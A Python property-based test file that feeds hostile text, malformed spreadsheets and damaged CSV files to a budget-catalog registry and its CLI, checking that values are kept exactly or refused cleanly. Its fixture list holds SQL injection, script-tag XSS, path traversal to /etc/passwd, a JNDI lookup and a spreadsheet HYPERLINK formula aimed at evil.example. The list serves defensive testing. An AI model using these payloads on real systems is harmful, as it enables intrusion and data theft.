"""Hostile input: element texts with control characters, right-to-left marks, emoji, SQL and HTML fragments, and
lengths past the limit, through the service (many examples) and the real CLI (a few, start-up costs a second); and
malformed catalog files. Each value is accepted and comes back exactly, or is refused (exit 7 for invalid input,
4 for a rule): never a traceback, never a database error, and a refused import writes nothing.

What the registry takes, as this test understands it (`ACCEPTABLE`): at most 20,000 characters, none of them a C0
control character other than tab, line feed and carriage return, nor DEL, U+FEFF, U+FFFE, U+FFFF or a lone surrogate.
Everything else — right-to-left and other format characters, C1 controls, emoji, markup — is text, kept as given.
Channels are the one normalised element: each is stripped, empty ones dropped.
"""

from __future__ import annotations

import csv
import io
import json
import operator
import re
import uuid
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pydantic import ValidationError

from events.database import open_engine
from events.elements import ItemElements
from projections import query
from registry.actor import Actor
from registry.items.command import DiscardItem, DraftItem
from registry.rules import RuleViolation
from registry.schema import upgrade
from registry.service import Registry, now
from registry.transfer.catalog_table import NotACatalog
from registry.transfer.importing import import_catalog
from registry.transfer.spreadsheet import UnreadableFile
from tests.conftest import Result
from tests.registry.transfer.catalog_files import complete, people, publish, write_rows_xlsx
from tests.reliability.catalog_file import HEADER, row
from tests.reliability.scale import HOSTILE_CLI_EXAMPLES, HOSTILE_SERVICE_EXAMPLES
from tests.signing import signed_registry

Cli = Callable[..., Result]

LIMIT = 20_000
ACCEPTABLE = re.compile(r"[^\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufeff\ufffe\uffff\ud800-\udfff]*")
TEXT_FIELDS = ("category", "name", "subname", "content", "basis", "time_limit", "body", "audience_note")
FRAGMENTS = (
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "'); DELETE FROM items WHERE ('1'='1",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "]]></t><f>1+1</f>",
    '=HYPERLINK("http://evil.example","点击")',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../../../etc/passwd",
    "\u202e\u2066گزارش\u2069\u202c",
    "\u200f\u200e\u061c",
    "👨‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "𠀀𪚥𰻞",
    "\r\n\t",
    "\x85\x9b31m",
    "NULL",
    "\\u0000",
    "\x00",
    "\x1b[31m",
    "\ufeff",
)
hostile_text = st.one_of(
    st.text(),
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs", "Mn", "So", "Co"])),
    st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), max_size=8).map("".join),
    st.builds(operator.mul, st.sampled_from(["界", "a", "👍", "\u202e", "\x1b"]), st.integers(LIMIT - 5, LIMIT + 5)),
    st.builds(operator.mul, st.text(min_size=1, max_size=3), st.integers(5_000, 40_000)),
)


def acceptable(value: str) -> bool:
    return len(value) <= LIMIT and ACCEPTABLE.fullmatch(value) is not None


def kept(field: str, value: str) -> str:
    """The part of `value` that the registry validates and keeps (Python's strip() also takes \\x1c-\\x1f)."""
    return value.strip() if field == "channels" else value


def round_tripped(field: str, value: str) -> Any:
    """What the registry gives back for `value` given as `field`."""
    if field == "channels":
        return [value.strip()] if value.strip() else []
    return value


@pytest.fixture
def drafter(registry: Registry) -> Actor:
    return people(registry)["李财政"]


@pytest.fixture
def sqlite_registry(sqlite_url: str) -> Iterator[Registry]:
    engine = open_engine(sqlite_url)
    upgrade(engine)
    yield signed_registry(engine)
    engine.dispose()


# -- through the service --------------------------------------------------------------------------------------------


@settings(
    max_examples=HOSTILE_SERVICE_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(field=st.sampled_from([*TEXT_FIELDS, "channels", "reason"]), value=hostile_text)
def test_a_hostile_text_is_kept_exactly_or_refused_as_invalid(
    registry: Registry, drafter: Actor, field: str, value: str
) -> None:
    item_id = f"h-{uuid.uuid4().hex[:12]}"
    given_elements = {field: [value] if field == "channels" else value} if field != "reason" else {}
    try:
        elements = ItemElements.model_validate({**complete("政府预算"), **given_elements})
        discard = DiscardItem(item_id=item_id, actor=drafter, at=now(), reason=value if field == "reason" else "")
    except ValidationError:
        assert not acceptable(kept(field, value)), f"{field}: refused {value[:80]!r}"
        return
    assert acceptable(kept(field, value)), f"{field}: accepted {value[:80]!r}"

    registry.execute(DraftItem(item_id=item_id, actor=drafter, at=now(), domain="财政预决算", elements=elements))
    registry.execute(discard)

    with registry.store.reading() as conn:
        stored = query.versions(conn, item_id)[0]["elements"]
        history = query.history(conn, item_id)
    if field == "reason":
        assert history[-1]["reason"] == value
    else:
        assert stored[field] == round_tripped(field, value)
        assert registry.load(item_id)[1][0].data.elements.as_json()[field] == round_tripped(field, value)  # type: ignore[union-attr]


@settings(
    max_examples=HOSTILE_SERVICE_EXAMPLES // 2,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(item_id=hostile_text | st.text(max_size=210), domain=hostile_text | st.text(max_size=210))
def test_a_hostile_item_id_or_domain_is_refused_as_invalid_or_by_a_rule_never_by_the_database(
    registry: Registry, drafter: Actor, item_id: str, domain: str
) -> None:
    try:
        command = DraftItem(
            item_id=item_id, actor=drafter, at=now(), domain=domain, elements=ItemElements.model_validate({})
        )
    except ValidationError:
        assert not (0 < len(item_id) <= 200 and acceptable(item_id) and len(domain) <= 200 and acceptable(domain))
        return
    try:
        registry.execute(command)
    except RuleViolation:
        return  # e.g. the actor: prefix, or an item that exists

    assert registry.load(item_id)[0].item_id == item_id


# -- through the CLI ------------------------------------------------------------------------------------------------


def argv_safe(value: str) -> bool:
    """Whether `value` can be an argument at all: argv holds no NUL, and no encoding holds a lone surrogate."""
    return "\x00" not in value and not re.search(r"[\ud800-\udfff]", value) and len(value.encode()) < 100_000


ALL_FRAGMENTS = {field: FRAGMENTS[n % 17] + FRAGMENTS[(n + 5) % 17] for n, field in enumerate(TEXT_FIELDS)}


@settings(
    max_examples=HOSTILE_CLI_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(values=st.dictionaries(st.sampled_from(TEXT_FIELDS), hostile_text, min_size=1, max_size=3))
@example(values=ALL_FRAGMENTS)
@example(values={"content": "一般公共预算\x07收支"})
@example(values={"basis": "《预算法》" * (LIMIT // 5) + "。"})
def test_the_cli_keeps_hostile_texts_exactly_or_exits_7(
    cli: Cli, registry: Registry, drafter: Actor, db_url: str, tmp_path: Path, values: dict[str, str]
) -> None:
    """The values go in through `--from FILE.json`, the content also through `--content` when argv can carry it."""
    item_id = f"c-{uuid.uuid4().hex[:12]}"
    elements = {**complete("政府预算"), **values}
    source = tmp_path / f"{item_id}.json"
    source.write_text(json.dumps({**elements, "domain": "财政预决算"}), "utf-8")  # ASCII: surrogates survive
    options = ["--content", values["content"]] if "content" in values and argv_safe(values["content"]) else []

    done = cli("--db", db_url, "--as", "李财政", "draft", "--id", item_id, "--from", str(source), *options, "--json")

    assert "Traceback" not in done.err
    if not all(acceptable(v) for v in values.values()):
        assert done.code == 7, done.err
        assert done.err.startswith("invalid input:"), done.err
        with pytest.raises(Exception, match="no item"):
            registry.load(item_id)
        return
    assert done.code == 0, done.err
    shown = cli("--db", db_url, "show", item_id, "--json")
    assert shown.code == 0, shown.err
    assert {f: json.loads(shown.out)["elements"][f] for f in values} == values


# -- malformed catalog files ----------------------------------------------------------------------------------------


@pytest.fixture
def good_xlsx(tmp_path: Path) -> bytes:
    return write_rows_xlsx(tmp_path / "good.xlsx", [HEADER, row(1, "政府预算"), row(2, "政府决算")]).read_bytes()


def import_outcome(registry: Registry, drafter: Actor, path: Path) -> str:
    """What became of the import: unreadable, blocked (problems, nothing written) or imported; never anything else."""
    before = registry.store.head()
    try:
        report = import_catalog(registry, path, unit="财政局", actor=drafter)
    except (UnreadableFile, NotACatalog):
        assert registry.store.head() == before
        return "unreadable"
    if report.blocked:
        assert registry.store.head() == before and not report.written
        return "blocked"
    return "imported"


@settings(
    max_examples=HOSTILE_SERVICE_EXAMPLES // 2,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_a_damaged_xlsx_is_refused_whole_or_read_as_what_survives(
    registry: Registry, drafter: Actor, good_xlsx: bytes, tmp_path: Path, data: st.DataObject
) -> None:
    """Bytes flipped, cut or inserted anywhere in a good workbook: unreadable (exit 7), or still a catalog."""
    damaged = bytearray(good_xlsx)
    for _ in range(data.draw(st.integers(1, 4), label="changes")):
        if not damaged:
            break
        at = data.draw(st.integers(0, len(damaged) - 1), label="at")
        match data.draw(st.sampled_from(["flip", "cut", "insert"]), label="how"):
            case "flip":
                damaged[at] ^= data.draw(st.integers(1, 255), label="mask")
            case "cut":
                del damaged[at:]
            case "insert":
                damaged[at:at] = data.draw(st.binary(min_size=1, max_size=64), label="bytes")
    path = tmp_path / f"{uuid.uuid4().hex[:8]}.xlsx"
    path.write_bytes(bytes(damaged))

    assert import_outcome(registry, drafter, path) in ("unreadable", "blocked", "imported")


@settings(
    max_examples=HOSTILE_SERVICE_EXAMPLES // 2,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    rows=st.lists(st.lists(hostile_text | st.sampled_from(FRAGMENTS), max_size=14), max_size=6),
    with_header=st.booleans(),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1"]),
)
def test_a_csv_of_hostile_cells_is_refused_whole_or_imported_exactly(
    registry: Registry, drafter: Actor, tmp_path: Path, rows: list[list[str]], with_header: bool, encoding: str
) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(([HEADER] if with_header else []) + rows)
    path = tmp_path / f"{uuid.uuid4().hex[:8]}.csv"
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))

    assert import_outcome(registry, drafter, path) in ("unreadable", "blocked", "imported")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("empty.xlsx", b""),
        ("zip-of-nothing.xlsx", b"PK\x05\x06" + b"\x00" * 18),
        ("html-as-xlsx.xlsx", b"<html><body><table><tr><td>\x00</td></tr></table></body></html>"),
        ("binary.csv", bytes(range(256)) * 4),
    ],
    ids=["empty", "zip of nothing", "html as xlsx", "binary csv"],
)
def test_a_malformed_file_through_the_cli_exits_7_and_writes_nothing(
    cli: Cli, sqlite_registry: Registry, sqlite_url: str, tmp_path: Path, name: str, content: bytes
) -> None:
    """On SQLite only: tests/cli/test_transfer.py runs other damaged files through the CLI on both backends."""
    people(sqlite_registry)
    path = tmp_path / name
    path.write_bytes(content)
    before = sqlite_registry.store.head()

    done = cli("--db", sqlite_url, "--as", "李财政", "import", str(path), "--unit", "财政局")

    assert done.code == 7, done.out + done.err
    assert "Traceback" not in done.err
    assert sqlite_registry.store.head() == before


def test_an_element_that_looks_like_a_formula_is_exported_as_text(
    cli: Cli, sqlite_registry: Registry, sqlite_url: str, tmp_path: Path
) -> None:
    """A spreadsheet would run `=HYPERLINK(...)` when the exported catalog is opened: it must stay a string."""
    formula = '=HYPERLINK("http://evil.example","点击查看")'
    publish(sqlite_registry, "czj-yusuan", complete(formula))

    done = cli("--db", sqlite_url, "export", "-o", str(tmp_path / "catalog.xlsx"))

    assert done.code == 0, done.err
    with zipfile.ZipFile(tmp_path / "catalog.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)
    cells = [c for row in load_workbook(tmp_path / "catalog.xlsx").active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in cells if c.value == formula] == [(formula, "s")]
